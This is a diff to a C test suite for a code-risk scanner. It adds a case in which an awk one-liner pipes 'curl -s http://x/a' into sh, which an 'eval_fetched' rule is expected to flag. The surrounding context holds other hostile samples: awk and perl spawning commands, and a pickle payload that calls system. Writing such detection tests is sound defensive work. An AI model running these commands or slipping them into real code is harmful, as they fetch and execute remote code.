@@ -293,6 +293,9 @@ Test(risk, red_team_misses)
         {"sh", 1, "awk 'BEGIN{system(\"id\")}'\n"},
         {"sh", 1, "perl -e 'system \"id\"; `id`'\n"},
     };
+    static const struct rule_case fetched[] = {
+        {"sh", 1, "awk 'BEGIN { system(\"curl -s http://x/a | sh\") }'\n"},
+    };
     static const struct rule_case loaders[] = {
         {"python", 3, "import pickle\np = b\"cposix\\nsystem\\n(S'id'\\ntR.\"\n"
                       "pickle.loads(p)\n"},
@@ -302,6 +305,7 @@ Test(risk, red_team_misses)
 
     expect_rule_cases("process_spawn", RULE_CASES(spawn));
     expect_rule_cases("obfuscated_loader", RULE_CASES(loaders));
+    expect_rule_cases("eval_fetched", RULE_CASES(fetched));
     expect_rule("node", "const { createRequire } = require('module');\n"
                         "const load = createRequire(__filename);\nload(process.argv[2]);\n",
                 "dynamic_import", 3);
